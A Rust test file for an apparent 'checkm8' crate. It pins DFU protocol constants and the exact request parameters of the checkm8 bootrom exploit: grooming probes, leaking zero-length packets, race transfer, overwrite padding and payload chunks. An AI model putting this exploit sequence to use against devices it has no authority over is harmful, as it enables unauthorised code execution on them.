use checkm8::dfu::{
    checkm8_send_leaking_zlp, checkm8_send_normal_zlp, dfu_check_status, groom_followup,
    groom_probe, overwrite, overwrite_padding, race_transfer, reset_device, send_abort,
    send_command_to_recovery, send_payload, stall_usb_request, CommandError, ABORT_REQUEST,
    ABORT_REQUEST_TYPE, DFU_ABORT, DFU_CLRSTATUS, DFU_DNLOAD, DFU_FILE_SUFFIX_LENGTH,
    DFU_GETSTATE, DFU_GETSTATUS, DFU_MAX_TRANSFER_SIZE, DFU_STATE_MANIFEST,
    DFU_STATE_MANIFEST_SYNC, DFU_STATE_MANIFEST_WAIT_RESET, DFU_STATUS_OK, DFU_UPLOAD,
    EP0_MAX_PACKET_SIZE, LEAKING_ZLP_LENGTH, MAX_COMMAND_LENGTH, NORMAL_ZLP_LENGTH,
    PADDING_LENGTH, RACE_TRANSFER_LENGTH,
};
use checkm8::{
    control_request_no_data, control_request_with_data, is_completed, transfer_outcome,
    ControlRequest, TransferOutcome, LIBUSB_ERROR_TIMEOUT, USB_TIMEOUT,
};

fn head(r: &ControlRequest) -> (u8, u8, u16, u16, u16, u32) {
    (r.request_type, r.request, r.value, r.index, r.length, r.timeout)
}

#[test]
fn dfu_constants_are_pinned() {
    assert_eq!(DFU_DNLOAD, 1);
    assert_eq!(DFU_UPLOAD, 2);
    assert_eq!(DFU_GETSTATUS, 3);
    assert_eq!(DFU_CLRSTATUS, 4);
    assert_eq!(DFU_GETSTATE, 5);
    assert_eq!(DFU_ABORT, 6);
    assert_eq!(DFU_FILE_SUFFIX_LENGTH, 16);
    assert_eq!(EP0_MAX_PACKET_SIZE, 0x40);
    assert_eq!(DFU_MAX_TRANSFER_SIZE, 0x800);
    assert_eq!(DFU_STATUS_OK, 0);
    assert_eq!(DFU_STATE_MANIFEST_SYNC, 6);
    assert_eq!(DFU_STATE_MANIFEST, 7);
    assert_eq!(DFU_STATE_MANIFEST_WAIT_RESET, 8);
    assert_eq!(USB_TIMEOUT, 10);
    assert_eq!(LIBUSB_ERROR_TIMEOUT, -7);
}

#[test]
fn exploit_constants_are_pinned() {
    assert_eq!(NORMAL_ZLP_LENGTH, 0xC1);
    assert_eq!(LEAKING_ZLP_LENGTH, 0x40);
    assert_eq!(RACE_TRANSFER_LENGTH, 2048);
    assert_eq!(PADDING_LENGTH, 0x5b6);
    assert_eq!(ABORT_REQUEST_TYPE, 0x21);
    assert_eq!(ABORT_REQUEST, 4);
    assert_eq!(MAX_COMMAND_LENGTH, 0x100);
}

#[test]
fn command_of_zero_bytes_is_rejected() {
    assert!(matches!(send_command_to_recovery(""), Err(CommandError::Empty)));
}

#[test]
fn command_of_one_byte_is_accepted() {
    let r = send_command_to_recovery("a").unwrap();
    assert_eq!(head(&r), (0x40, 1, 0, 0, 2, 10));
    assert_eq!(r.data, vec![b'a', 0]);
}

#[test]
fn command_of_0x100_bytes_is_accepted() {
    let cmd = "x".repeat(0x100);
    let r = send_command_to_recovery(&cmd).unwrap();
    assert_eq!(r.length, 0x101);
    assert_eq!(r.data.len(), 0x101);
    assert_eq!(r.data[0xff], b'x');
    assert_eq!(r.data[0x100], 0);
}

#[test]
fn command_of_0x101_bytes_is_rejected() {
    let cmd = "x".repeat(0x101);
    assert!(matches!(send_command_to_recovery(&cmd), Err(CommandError::TooLong)));
}

#[test]
fn console_command_carries_text_and_terminator() {
    let r = send_command_to_recovery("saveenv").unwrap();
    assert_eq!(head(&r), (0x40, 1, 0, 0, 8, 10));
    assert_eq!(r.data, b"saveenv\0".to_vec());
}

#[test]
fn outcome_of_statuses() {
    assert_eq!(transfer_outcome(5, 10), TransferOutcome::Completed(5));
    assert_eq!(transfer_outcome(0, 1), TransferOutcome::Completed(0));
    assert_eq!(transfer_outcome(64, 10), TransferOutcome::Completed(64));
    assert_eq!(transfer_outcome(2048, 1), TransferOutcome::Completed(2048));
    assert_eq!(transfer_outcome(-7, 10), TransferOutcome::TimedOut);
    assert_eq!(transfer_outcome(-9, 10), TransferOutcome::Failed(-9));
    assert_eq!(transfer_outcome(-1, 10), TransferOutcome::Failed(-1));
    // Timeout 0: always timed out, whatever the status.
    assert_eq!(transfer_outcome(3, 0), TransferOutcome::TimedOut);
    assert_eq!(transfer_outcome(0, 0), TransferOutcome::TimedOut);
    assert_eq!(transfer_outcome(-9, 0), TransferOutcome::TimedOut);
}

#[test]
fn completion_test() {
    assert!(is_completed(TransferOutcome::Completed(0)));
    assert!(!is_completed(TransferOutcome::TimedOut));
    assert!(!is_completed(TransferOutcome::Failed(-1)));
}

#[test]
fn request_builders() {
    let r = control_request_no_data(0x80, 6, 0x304, 0x40A, 0xC1, 7);
    assert_eq!(head(&r), (0x80, 6, 0x304, 0x40A, 0xC1, 7));
    assert!(r.data.is_empty());
    let r = control_request_with_data(0, 0, 0, 0, vec![1, 2, 3], 10);
    assert_eq!(head(&r), (0, 0, 0, 0, 3, 10));
    assert_eq!(r.data, vec![1, 2, 3]);
}

#[test]
fn reset_sequence() {
    let r = reset_device();
    assert_eq!(r.len(), 3);
    assert_eq!(head(&r[0]), (0x21, 1, 0, 0, 16, 10));
    assert_eq!(head(&r[1]), (0x21, 1, 0, 0, 0, 10));
    assert_eq!(head(&r[2]), (0x21, 1, 0, 0, 0x40, 10));
    assert_eq!(head(&dfu_check_status()), (0x21, 1, 0, 0, 16, 10));
}

#[test]
fn grooming_and_race_requests() {
    assert_eq!(head(&stall_usb_request()), (0x2, 3, 0, 0x80, 0x80, 10));
    assert_eq!(head(&groom_probe(7)), (0x80, 6, 0x304, 0xA, 0xC0, 7));
    assert_eq!(head(&groom_followup()), (0x80, 6, 0x304, 0xA, 0x40, 1));
    assert_eq!(head(&checkm8_send_normal_zlp()), (0x80, 6, 0x304, 0x40A, 0xC1, 10));
    assert_eq!(head(&checkm8_send_leaking_zlp()), (0x80, 6, 0x304, 0x40A, 0x40, 10));
    assert_eq!(head(&race_transfer(3)), (0x21, 1, 0, 0, 2048, 3));
    assert_eq!(head(&overwrite_padding()), (0, 0, 0, 0, 0x5c0 - 10, 10));
    assert_eq!(head(&send_abort()), (0x21, 4, 0, 0, 0, 0));
}

#[test]
fn overwrite_and_payload_chunks() {
    let r = overwrite(&vec![0xaa; 100]);
    assert_eq!(head(&r), (0, 0, 0, 0, 100, 10));
    assert_eq!(r.data, vec![0xaa; 100]);
    let payload: Vec<u8> = (0..0x1000u32 + 5).map(|i| (i % 251) as u8).collect();
    let a = send_payload(&payload, 0);
    assert_eq!(head(&a), (0x21, 1, 0, 0, 0x800, 10));
    assert_eq!(a.data, payload[0..0x800].to_vec());
    let c = send_payload(&payload, 0x1000);
    assert_eq!(c.length, 5);
    assert_eq!(c.data, payload[0x1000..].to_vec());
}
